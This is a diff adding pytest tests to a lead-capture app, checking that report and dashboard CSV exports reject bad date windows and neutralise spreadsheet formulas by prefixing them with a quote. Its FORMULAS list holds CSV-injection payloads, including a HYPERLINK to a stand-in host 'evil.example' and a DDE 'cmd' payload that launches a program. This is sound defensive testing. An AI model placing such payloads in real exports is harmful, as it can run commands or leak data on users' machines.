@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 import subprocess
 import sys
 from datetime import datetime, timedelta, timezone
@@ -19,7 +20,8 @@ from graph.playbook import _Yaml12Loader
 from bot.sandbox import serve_in_thread
 from store.db import make_engine, make_sessionmaker
 from store.models import CaptureEvent, Lead, Message, Touch, utcnow
-from tests.conftest import ROOT, STATS_TOKEN, fresh_database, stack_settings
+from store.report import owner_report, spreadsheet_safe
+from tests.conftest import API_TOKEN, DASHBOARD_PASSWORD, ROOT, STATS_TOKEN, fresh_database, stack_settings
 
 T0 = datetime(2020, 3, 2, 15, 0, tzinfo=timezone.utc)
 WINDOW = {"since": "2020-03-01", "until": "2020-04-01T00:00:00Z"}
@@ -128,7 +130,12 @@ def test_without_a_window_every_lead_counts(report_app):
 
 
 @pytest.mark.parametrize("params, field", [({"since": "last tuesday"}, "since"), ({"until": "2020-13-01"}, "until"),
-                                           ({"since": "2020-04-01", "until": "2020-03-01"}, "until")])
+                                           ({"since": "2020-04-01", "until": "2020-03-01"}, "until"),
+                                           ({"since": "9999-12-31"}, "since"), ({"until": "9999-12-31"}, "until"),
+                                           ({"since": "0001-01-01T00:00:00+14:00"}, "since"),
+                                           ({"until": "9999-12-31T23:59:59-14:00"}, "until"),
+                                           ({"since": "1969-12-31", "until": "2020-01-01"}, "since"),
+                                           ({"since": "2020-01-01", "until": "2" * 70}, "until")])
 def test_a_bad_window_gets_422_naming_the_parameter(report_app, params, field):
     base, _ = report_app
     answer = get_stats(base, **params)
@@ -155,3 +162,72 @@ def test_leadline_export_writes_the_owner_report_as_csv(report_app):
                          env={"DATABASE_URL": url, "PATH": "/usr/bin:/bin", "PYTHONPATH": str(ROOT)},
                          cwd=ROOT, capture_output=True, text=True, timeout=60)
     assert bad.returncode == 2 and "ISO 8601" in bad.stderr
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x","Click")', "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0", "-2+3"]
+"""Lead sources a hostile form sends: each begins like a spreadsheet formula (OWASP, CSV injection)."""
+
+
+@pytest.mark.parametrize("text, safe", [*((f, "'" + f) for f in FORMULAS), ("\tx", "'\tx"), ("\rx", "'\rx"),
+                                        ("web_form", "web_form"), ("a=b", "a=b"), ("", "")])
+def test_text_that_begins_like_a_formula_is_prefixed_with_a_quote(text, safe):
+    assert spreadsheet_safe(text) == safe
+
+
+@pytest.fixture
+def hostile_leads(web, phone) -> dict[int, str]:
+    """Leads captured through ``POST /leads`` whose source is a formula: ``{lead_id: source}``."""
+    leads = {}
+    for source in FORMULAS:
+        answer = requests.post(f"{web}/leads", headers={"Authorization": f"Bearer {API_TOKEN}"}, timeout=10,
+                               json={"event_id": f"csv-{phone()}", "source": source, "phone": phone()})
+        assert answer.status_code == 201, answer.text
+        leads[answer.json()["lead_id"]] = source
+    return leads
+
+
+def assert_neutralised(csv_text: str, leads: dict[int, str]) -> None:
+    """Each lead's source is exported with a leading quote; its other cells are as they were."""
+    rows = {int(r["lead_id"]): r for r in csv.DictReader(io.StringIO(csv_text))}
+    assert {lead_id: rows[lead_id]["source"] for lead_id in leads} == {k: "'" + v for k, v in leads.items()}
+    assert {(rows[lead_id]["channel"], rows[lead_id]["status"][:1].isalpha()) for lead_id in leads} == {("sms", True)}
+
+
+def test_leadline_export_neutralises_formulas(settings, hostile_leads):
+    run = subprocess.run([sys.executable, "-c", "from app import cli; cli()", "export"],
+                         env={"DATABASE_URL": settings.database_url, "PATH": "/usr/bin:/bin", "PYTHONPATH": str(ROOT)},
+                         cwd=ROOT, capture_output=True, text=True, timeout=60)
+    assert run.returncode == 0, run.stderr
+    assert_neutralised(run.stdout, hostile_leads)
+
+
+def dashboard_session(web: str) -> requests.Session:
+    """A browser-like session logged in to the dashboard (the login form's CSRF token, then the password)."""
+    browser = requests.Session()
+    form = browser.get(f"{web}/dashboard/login", timeout=10)
+    token = re.search(r'name="csrf_token" value="([^"]+)"', form.text).group(1)
+    answer = browser.post(f"{web}/dashboard/login", data={"csrf_token": token, "password": DASHBOARD_PASSWORD},
+                          timeout=10, allow_redirects=False)
+    assert answer.status_code == 302, answer.text
+    return browser
+
+
+def test_the_dashboards_export_neutralises_formulas_and_bounds_its_window(web, hostile_leads):
+    browser = dashboard_session(web)
+    answer = browser.get(f"{web}/dashboard/export.csv", timeout=30)
+    assert answer.status_code == 200 and answer.headers["Content-Type"].startswith("text/csv")
+    assert_neutralised(answer.text, hostile_leads)
+    for window in ({"since": "9999-12-31"}, {"until": "0001-01-01T00:00:00+14:00"}):
+        assert browser.get(f"{web}/dashboard/export.csv", params=window, timeout=10).status_code == 422
+
+
+def test_the_report_rows_keep_numbers_as_numbers(report_app):
+    _, url = report_app
+    engine = make_engine(url)
+    try:
+        with make_sessionmaker(engine)() as session:
+            rows = list(owner_report(session, since=T0 - minutes(1), until=T0 + minutes(1)))
+    finally:
+        engine.dispose()
+    assert {type(r["lead_id"]) for r in rows} == {int}
+    assert [r["first_response_minutes"] for r in rows] == [1.0, 2.0, 10.0, None]
